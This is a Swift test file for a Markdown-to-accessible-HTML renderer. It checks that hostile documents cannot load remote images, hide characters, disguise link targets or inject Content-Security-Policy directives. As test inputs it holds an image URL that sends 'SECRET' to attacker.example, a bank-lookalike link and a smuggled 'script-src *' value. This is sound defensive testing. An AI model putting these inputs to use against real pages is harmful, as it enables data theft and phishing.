import LegibleAccessibility
import LegibleHTML
import LegibleMarkdown
import Testing

/// A page of a document written by an attacker contacts no host the options do not allow, and
/// shows what the document hides or disguises.
@Suite("Accessible HTML: hostile documents")
struct HostileDocumentTests {
    @Test("a remote image is its words in its place, named as the model names it, not an <img>")
    func remoteImageAsked() {
        #expect(body("![chart](https://attacker.example/log?q=SECRET)") == """
            <p id="legible-text-0"><span class="legible-image-placeholder" role="img" id="legible-image-0" aria-label="chart">\
            chart (image from attacker.example, not loaded)</span></p>

            """)
        #expect(body("[![logo](https://cdn.example/logo.png)](https://example.com)") == """
            <p id="legible-text-0"><a id="legible-link-0" href="https://example.com"><span class="legible-image-placeholder" role="img" \
            id="legible-image-1" aria-label="logo">logo (image from cdn.example, not loaded)</span></a></p>

            """)
    }

    @Test("allowed hosts, relative and data: images are <img>s")
    func allowedImages() {
        let options = AccessibleHTMLOptions(images: .allowHosts(["cdn.example"]))
        #expect(body("![a](https://cdn.example/a.png) ![b](b.png)", options: options) == """
            <p id="legible-text-0"><img id="legible-image-0" src="https://cdn.example/a.png" alt="a"> <img id="legible-image-32" src="b.png" alt="b"></p>

            """)
        #expect(body("![a](https://cdn.example/a.png)", options: AccessibleHTMLOptions(images: .allowAll)).contains("<img"))
    }

    @Test("what the document hides is shown in warning spans, in code too")
    func warnings() {
        #expect(body("Hi\u{200B} `a\u{202E}b`") == """
            <p id="legible-text-0">Hi<span class="legible-warning">⟦hidden character: U+200B⟧</span> \
            <code>a<span class="legible-warning">⟦direction control: U+202E⟧</span>b</code></p>

            """)
        #expect(body("```\nx = \"\u{202E}\"\n```").contains("<pre role=\"code\">x = &quot;<span class=\"legible-warning\">⟦direction control: U+202E⟧</span>&quot;</pre>"))
    }

    @Test("a disguised link shows its real host inside the link")
    func disguisedLink() {
        #expect(body("[https://bank.example.com](https://bank-example.attacker.test)") == """
            <p id="legible-text-0"><a id="legible-link-0" href="https://bank-example.attacker.test">https://bank.example.com\
            <span class="legible-warning">⟦goes to bank-example.attacker.test⟧</span></a></p>

            """)
    }

    @Test("the Content-Security-Policy allows the images the policy loads, and no more")
    func contentSecurityPolicy() {
        #expect(AccessibleHTMLRenderer.contentSecurityPolicy(for: AccessibleHTMLOptions())
            == "default-src 'none'; img-src 'self' data:; style-src 'unsafe-inline'; base-uri 'none'; form-action 'none'")
        #expect(AccessibleHTMLRenderer.contentSecurityPolicy(for: AccessibleHTMLOptions(images: .allowHosts(["cdn.example", "*.img.example"])))
            .contains("img-src 'self' data: http://cdn.example:* https://cdn.example:* http://*.img.example:* https://*.img.example:*;"))
        #expect(AccessibleHTMLRenderer.contentSecurityPolicy(for: AccessibleHTMLOptions(images: .allowAll)).contains("img-src * 'self' data:;"))
        let linked = AccessibleHTMLOptions(stylesheet: .linked("https://style.example/a.css; script-src *"))
        #expect(AccessibleHTMLRenderer.contentSecurityPolicy(for: linked).contains("style-src 'unsafe-inline' https://style.example;"))
        #expect(!AccessibleHTMLRenderer.contentSecurityPolicy(for: AccessibleHTMLOptions(), scriptAllowed: true).contains("default-src"))
    }
}
